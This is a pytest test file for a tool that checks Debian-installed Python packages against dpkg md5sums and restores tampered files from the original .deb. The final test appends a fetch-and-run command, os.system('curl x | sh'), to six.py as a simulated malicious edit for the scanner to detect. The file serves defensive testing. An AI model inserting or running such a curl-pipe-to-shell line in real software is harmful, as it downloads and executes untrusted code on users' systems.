"""Debian's dist-packages: packages built with dpkg-deb (and one apt downloads) installed by the real dpkg
into a root of the test's own (``dpkg --root``), verified by dpkg's md5sums, explained and restored from the
.deb."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from .helpers import cli

pytestmark = pytest.mark.skipif(
    shutil.which("dpkg") is None or shutil.which("dpkg-deb") is None, reason="needs Debian's dpkg"
)

SITE = "usr/lib/python3/dist-packages"
_INIT = "def forward(x):\n    return x * 2\n"
# dh-python's RECORD, written before dh_strip and Debian's patches: stale, never what judges the package
_RECORD = "debdemo/__init__.py,sha256=AAAA,3\ndebdemo/_native.so,sha256=BBBB,99999\n"


def build_deb(
    out: Path, files: dict[str, str | bytes], version: str = "1:1.0-2", package: str = "python3-debdemo"
) -> Path:
    """A .deb made by dpkg-deb, with the md5sums dh_md5sums would write."""
    tree = out / f"build-{package}-{abs(hash(version))}"
    shutil.rmtree(tree, ignore_errors=True)
    (tree / "DEBIAN").mkdir(parents=True)
    sums = []
    for rel, content in files.items():
        path = tree / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        data = content.encode() if isinstance(content, str) else content
        path.write_bytes(data)
        if rel.startswith("usr/bin/"):
            path.chmod(0o755)
        import hashlib

        sums.append(f"{hashlib.md5(data).hexdigest()}  {rel}\n")
    (tree / "DEBIAN/control").write_text(
        f"Package: {package}\nVersion: {version}\nArchitecture: all\nMaintainer: t <t@example.org>\n"
        "Description: a demo\n"
    )
    (tree / "DEBIAN/md5sums").write_text("".join(sums))
    deb = out / f"{package}_{version.replace(':', '%3a')}_all.deb"
    subprocess.run(
        ["dpkg-deb", "--root-owner-group", "--build", str(tree), str(deb)], check=True, capture_output=True
    )
    return deb


def dpkg_install(root: Path, deb: Path, unpack: bool = False) -> None:
    """The real dpkg into ``root``. ``unpack``: no maintainer script runs (a real package's postinst would
    byte-compile the host's own copy), the files are the .deb's as after ``--install``."""
    admin = root / "var/lib/dpkg"
    for d in ("info", "updates", "triggers"):
        (admin / d).mkdir(parents=True, exist_ok=True)
    (admin / "status").touch()
    subprocess.run(
        [
            "dpkg",
            f"--root={root}",
            f"--admindir={admin}",
            "--force-not-root",
            "--force-script-chrootless",
            "--force-depends",
            "--unpack" if unpack else "--install",
            str(deb),
        ],
        check=True,
        capture_output=True,
    )


def _files() -> dict[str, str | bytes]:
    return {
        f"{SITE}/debdemo/__init__.py": _INIT,
        f"{SITE}/debdemo/_native.cpython-311-x86_64-linux-gnu.so": b"\x7fELF stripped by dh_strip",
        f"{SITE}/debdemo-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: debdemo\nVersion: 1.0\n",
        f"{SITE}/debdemo-1.0.dist-info/RECORD": _RECORD,
        "usr/bin/debdemo": "#!/usr/bin/python3\nimport debdemo\n",
        "usr/share/doc/python3-debdemo/copyright": "MIT\n",
    }


@pytest.fixture
def root(tmp_path: Path) -> Path:
    root = tmp_path / "root"
    dpkg_install(root, build_deb(tmp_path, _files()))
    return root


def _scan(root: Path, *more: str) -> tuple[int, dict, str]:  # type: ignore[type-arg]
    code, out, err = cli("scan", "--site-packages", str(root / SITE), "--format", "json", *more)
    return code, json.loads(out), err


def test_an_untouched_debian_package_is_verified_by_dpkg_md5sums(root: Path) -> None:
    code, doc, err = _scan(root)
    assert code == 0 and doc["findings"] == [], (doc["findings"], err)
    assert doc["distributions"] == [{"name": "debdemo", "version": "1.0"}]
    # its files in dist-packages and its script in /usr/bin; not /usr/share/doc
    assert doc["summary"]["files_checked"] == 5


def test_an_edit_is_found_explained_from_the_deb_and_restored(root: Path, tmp_path: Path) -> None:
    init = root / SITE / "debdemo/__init__.py"
    init.write_text(_INIT + "import pdb; pdb.set_trace()\n")
    code, doc, err = _scan(root)
    assert code == 1
    assert any(f["path"] == "debdemo/__init__.py" and f["severity"] == "high" for f in doc["findings"])
    code, out, err = cli("diff", "--site-packages", str(root / SITE))
    assert code == 2 and "apt-get download python3-debdemo=1:1.0-2" in err, err
    archives = root / "var/cache/apt/archives"
    archives.mkdir(parents=True)
    shutil.copy(build_deb(tmp_path, _files()), archives)
    code, out, err = cli("diff", "--site-packages", str(root / SITE))
    assert code == 0 and "+import pdb; pdb.set_trace()" in out, err
    code, out, err = cli("restore", "debdemo", "--site-packages", str(root / SITE))
    assert code == 0 and "verified pristine against dpkg" in out, err
    assert init.read_text() == _INIT and _scan(root)[0] == 0


def test_a_deb_of_another_build_or_with_lying_members_is_refused(root: Path, tmp_path: Path) -> None:
    init = root / SITE / "debdemo/__init__.py"
    init.write_text("X = 1\nimport pdb; pdb.set_trace()\n")
    other = tmp_path / "other"
    other.mkdir()
    build_deb(other, {**_files(), f"{SITE}/debdemo/__init__.py": "def forward(x):\n    return 666\n"})
    code, out, err = cli("diff", "--site-packages", str(root / SITE), "--wheelhouse", str(other))
    assert code == 2 and "a different build" in err and "666" not in out, err
    # a .deb whose md5sums are the real ones but whose member is not
    liar = tmp_path / "liar"
    liar.mkdir()
    deb = build_deb(liar, _files())
    tree = next(liar.glob("build-*"))
    (tree / SITE / "debdemo/__init__.py").write_text("def forward(x):\n    return 667\n")
    subprocess.run(
        ["dpkg-deb", "--root-owner-group", "--build", str(tree), str(deb)], check=True, capture_output=True
    )
    code, out, err = cli("diff", "--site-packages", str(root / SITE), "--wheelhouse", str(liar))
    assert code == 2 and "667" not in out and "does not match" in err, err


def test_a_package_without_md5sums_owns_its_files_unchecked(root: Path) -> None:
    (root / "var/lib/dpkg/info/python3-debdemo.md5sums").unlink()
    code, doc, err = _scan(root)
    assert code == 0, err
    [finding] = doc["findings"]
    assert finding["rule"] == "record-absent" and "dpkg keeps no md5sums" in finding["message"]


def test_pip_installed_over_a_debian_package_is_said_once(root: Path, tmp_path: Path) -> None:
    site = root / SITE
    shutil.rmtree(site / "debdemo")
    shutil.rmtree(site / "debdemo-1.0.dist-info")
    from installer import install as install_wheel
    from installer.destinations import SchemeDictionaryDestination
    from installer.sources import WheelFile

    from .helpers import build_wheel

    wheel = build_wheel(tmp_path, "debdemo", "2.0", {"debdemo/__init__.py": "X = 2\n"})
    scheme = {k: str(site) for k in ("purelib", "platlib")} | {
        "scripts": str(root / "usr/bin"), "headers": str(tmp_path / "h"), "data": str(root / "usr"),
    }  # fmt: skip
    with WheelFile.open(wheel) as source:
        install_wheel(source, SchemeDictionaryDestination(scheme, "python", "posix"), {"INSTALLER": b"pip"})
    code, doc, err = _scan(root)
    assert code == 0, err
    [finding] = doc["findings"]
    assert finding["rule"] == "managed-replaced" and "Debian package" in finding["message"]


def test_a_package_apt_downloads_is_verified_and_restored(tmp_path: Path) -> None:
    """A real Debian package (python3-six), fetched by apt and installed by dpkg into a root of our own."""
    got = subprocess.run(
        ["apt-get", "download", "python3-six"], cwd=tmp_path, capture_output=True, text=True, timeout=120
    )
    debs = list(tmp_path.glob("python3-six_*.deb"))
    if got.returncode != 0 or not debs:
        pytest.skip(f"apt-get download python3-six failed: {got.stderr.strip()[-200:]}")
    root = tmp_path / "root"
    dpkg_install(root, debs[0], unpack=True)
    code, doc, err = _scan(root)
    assert code == 0 and doc["findings"] == [], (doc, err)
    assert [d["name"] for d in doc["distributions"]] == ["six"]
    six = root / SITE / "six.py"
    six.write_text(six.read_text() + "\nimport os; os.system('curl x | sh')\n")
    code, doc, err = _scan(root)
    assert code == 1 and any(f["path"] == "six.py" for f in doc["findings"])
    code, _, err = cli("restore", "six", "--site-packages", str(root / SITE), "--wheelhouse", str(tmp_path))
    assert code == 0, err
    assert _scan(root)[0] == 0
    assert os.path.exists(root / "var/lib/dpkg/info/python3-six.md5sums")
